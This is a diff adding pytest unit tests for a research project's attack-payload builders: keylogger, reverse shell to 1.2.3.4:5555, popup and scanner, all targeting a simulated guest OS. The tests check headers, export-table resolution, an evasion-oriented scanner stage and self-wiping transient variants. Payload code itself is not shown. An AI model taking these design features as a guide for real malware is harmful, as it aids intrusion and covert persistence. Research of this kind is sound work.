@@ -1,0 +1,91 @@
+"""Unit tests for the payload builders (structure, not behaviour)."""
+
+import pytest
+
+from repro.attacks.payloads import (
+    PAYLOAD_ENTRY_OFFSET,
+    build_keylogger_payload,
+    build_popup_payload,
+    build_scanner_payload,
+    build_shell_payload,
+)
+from repro.guestos.loader import export_table_address
+from repro.isa.disasm import disassemble, looks_like_code
+from repro.isa.instructions import INSTRUCTION_SIZE, Op, decode
+
+BASE = 0x60000
+
+BUILDERS = [
+    lambda transient=False: build_popup_payload(BASE, transient=transient),
+    lambda transient=False: build_keylogger_payload(BASE, transient=transient),
+    lambda transient=False: build_shell_payload(BASE, "1.2.3.4", 5555, transient=transient),
+    lambda transient=False: build_scanner_payload(BASE, transient=transient),
+]
+
+
+class TestStructure:
+    @pytest.mark.parametrize("builder", BUILDERS)
+    def test_mz_header_at_start(self, builder):
+        assert builder().code.startswith(b"MZ")
+
+    @pytest.mark.parametrize("builder", BUILDERS)
+    def test_entry_is_a_valid_instruction(self, builder):
+        code = builder().code
+        insn = decode(code, PAYLOAD_ENTRY_OFFSET)
+        assert insn.op in Op
+
+    @pytest.mark.parametrize("builder", BUILDERS)
+    def test_body_disassembles_as_code(self, builder):
+        code = builder().code
+        assert looks_like_code(code[PAYLOAD_ENTRY_OFFSET : PAYLOAD_ENTRY_OFFSET + 64])
+
+    @pytest.mark.parametrize("builder", BUILDERS)
+    def test_assembled_for_requested_base(self, builder):
+        prog = builder()
+        assert prog.base == BASE
+        # Every absolute branch target lies inside the payload image.
+        for line in disassemble(prog.code, base=BASE):
+            if line.valid and line.text.split()[0] in ("jmp", "jz", "jnz", "call"):
+                target = int(line.text.split()[-1], 16)
+                assert BASE <= target < BASE + len(prog.code)
+
+
+class TestExportResolution:
+    @pytest.mark.parametrize("builder", BUILDERS[:3])
+    def test_resolver_reads_inside_export_table(self, builder):
+        """Each hash-resolving stage embeds the export table address."""
+        prog = builder()
+        table = export_table_address()
+        loads_table = any(
+            line.valid and line.text == f"movi r4, {table:#x}"
+            for line in disassemble(prog.code, base=BASE)
+        )
+        assert loads_table
+
+    def test_scanner_never_references_export_table(self):
+        """The evasion stage must scan code, not the table."""
+        prog = build_scanner_payload(BASE)
+        table = export_table_address()
+        for line in disassemble(prog.code, base=BASE):
+            assert f"{table:#x}" not in line.text
+
+
+class TestTransientVariants:
+    @pytest.mark.parametrize("builder", BUILDERS)
+    def test_transient_is_larger_and_contains_wipe_loop(self, builder):
+        plain = builder().code
+        transient = builder(transient=True).code
+        assert len(transient) > len(plain)
+
+    @pytest.mark.parametrize("builder", BUILDERS)
+    def test_wipe_loop_targets_own_base(self, builder):
+        prog = builder(transient=True)
+        listing = [l.text for l in disassemble(prog.code, base=BASE) if l.valid]
+        assert f"movi r1, {BASE:#x}" in listing  # wipe cursor starts at base
+
+
+class TestPayloadSizes:
+    def test_sizes_are_modest(self):
+        # Stages must fit comfortably in one remote allocation.
+        for builder in BUILDERS:
+            assert len(builder(transient=True).code) < 0x1000
